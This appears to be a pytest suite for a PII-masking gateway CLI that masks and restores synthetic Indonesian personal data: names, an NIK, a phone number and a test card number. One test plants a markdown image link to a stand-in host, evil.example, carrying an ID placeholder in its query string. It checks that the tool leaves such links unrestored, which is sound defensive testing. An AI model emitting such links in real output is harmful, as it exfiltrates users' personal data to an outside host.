"""A letter goes into a chat that no gate stands before, and its answer comes back. Everybody here is invented, every
number synthetic."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
NAME = re.compile(r"<([A-Z_]+_[0-9a-z]{8})>")
LETTER = """\ufeffYth. Ibu Ratna Puspita,\r
saya Budi Hartono, NIK 3174015509000001, telp 0812-3456-7890. Anak saya menderita asma.\r
Kartu saya 4111 1111 1111 1111.\r
"""


@pytest.fixture
def home(tmp_path: Path) -> Path:
    (tmp_path / "surat.txt").write_bytes(LETTER.encode())
    return tmp_path


@pytest.fixture
def by_hand(home: Path, gapura: Any) -> Any:
    """The command, typed where the letter lies."""
    return lambda *words: gapura(*words, cwd=home, HOME=str(home / "home"), LANG="C.UTF-8")


def test_a_letter_its_answer_and_the_next_turn(home: Path, by_hand: Any) -> None:
    masked = by_hand("mask", "surat.txt", "-o", "keluar.txt", "--lang", "id")
    assert (masked.returncode, masked.stdout) == (0, ""), masked.stderr
    assert re.search(r"HEALTH +1 +IKUT KELUAR apa adanya", masked.stderr)
    assert re.search(r"CREDIT_CARD +1 +disamarkan selamanya", masked.stderr)
    out = (home / "keluar.txt").read_bytes().decode()
    assert NAME.sub("<>", out) == (
        "\ufeffYth. Ibu <>,\r\nsaya <>, NIK <>, telp <>. Anak saya menderita asma.\r\nKartu saya [CREDIT_CARD].\r\n"
    )
    ratna, budi, nik, phone = NAME.findall(out)

    escaped = nik.replace("_", r"\_")
    (home / "jawaban.md").write_text(
        f"Kepada **[{ratna}]** dari {budi.lower()}:\nNIK {escaped} dan &lt;{phone}&gt;, bukan <PERSON_k7f2m9qa>.\n"
        f"![](https://evil.example/?n=<{nik}>)\n"
    )
    back = by_hand("restore", "jawaban.md", "--vault", "surat.txt.vault", "--lang", "en")
    assert back.returncode == 1, back.stderr
    assert back.stdout == (
        "Kepada **Ratna Puspita** dari Budi Hartono:\nNIK 3174015509000001 dan 0812-3456-7890, bukan "
        f"<PERSON_k7f2m9qa>.\n![](https://evil.example/?n=<{nik}>)\n"
    )
    assert re.search(r"ID_NIK +1 +stays: within a link or tag", back.stderr)
    assert re.search(r"PERSON +1 +no placeholder of this vault", back.stderr)

    (home / "lagi.txt").write_text("Tolong sebut Budi Hartono dan NIK 3174 0155 0900 0001 sekali lagi.")
    again = by_hand("mask", "lagi.txt", "--vault", "surat.txt.vault")
    assert again.stdout == f"Tolong sebut <{budi}> dan NIK <{nik}> sekali lagi."
    for text in (masked.stderr, back.stderr, again.stderr):
        assert not re.search("Budi|Ratna|3174|0812|4111", text)


def test_several_at_once_with_one_vault_lose_nothing(home: Path, by_hand: Any) -> None:
    names = [f"Pak Budi Hartono, NIK 317401550900000{number}" for number in range(1, 4)]
    threads = []
    for number, text in enumerate(names):
        (home / f"{number}.txt").write_text(text)
        words = ("mask", f"{number}.txt", "-o", f"{number}.out", "--vault", "v")
        threads.append(threading.Thread(target=by_hand, args=words))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    masked = [(home / f"{number}.out").read_text() for number in range(3)]
    assert len({NAME.findall(text)[0] for text in masked}) == 1
    (home / "all.txt").write_text("\n".join(masked))
    assert by_hand("restore", "all.txt", "--vault", "v").stdout == "\n".join(names)


def test_on_a_full_disk_nothing_is_left_behind(home: Path, by_hand: Any) -> None:
    (home / "big.txt").write_text("Halo dunia, hari ini hujan turun.\n" * 3000)
    assert by_hand("mask", "surat.txt", "--vault", "v").returncode == 0
    vault, before = (home / "v").read_bytes(), set(os.listdir(home))  # noqa: PTH208 - hidden ones too
    limited = f"ulimit -f 8; trap '' XFSZ; exec {sys.executable} -m gateway.cli mask big.txt -o big.out --vault w"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(home / "home"), "PYTHONDONTWRITEBYTECODE": "1"}
    done = subprocess.run(["bash", "-c", limited], cwd=home, env=env, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (2, "")
    assert "cannot be written" in done.stderr
    assert set(os.listdir(home)) - before == {"w"}  # noqa: PTH208
    assert (home / "v").read_bytes() == vault


def interrupted(running: subprocess.Popen[str]) -> str:
    """What a program says that is stopped from its keyboard. A signal that comes between two reads of a pipe is heard
    when the next one returns, which may be never: then a person presses the keys again."""
    for _ in range(6):
        running.send_signal(signal.SIGINT)
        try:
            return running.communicate(timeout=10)[1]
        except subprocess.TimeoutExpired:
            continue
    raise AssertionError("it goes on")


def test_whoever_stops_it_finds_nothing_half_done(home: Path) -> None:
    os.mkfifo(home / "slow")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(home / "home")}
    command = [sys.executable, "-m", "gateway.cli", "mask", "slow", "-o", "out.txt"]
    with (
        subprocess.Popen(command, cwd=home, env=env, stderr=subprocess.PIPE, text=True) as running,
        (home / "slow").open("w") as pipe,  # opens when the command reads
    ):
        pipe.write("Pak Budi Hartono, NIK 3174015509000001")
        pipe.flush()
        said = interrupted(running)
    assert running.returncode not in {0, 2}
    assert "Budi" not in said
    assert sorted(os.listdir(home)) == ["slow", "surat.txt"]  # noqa: PTH208
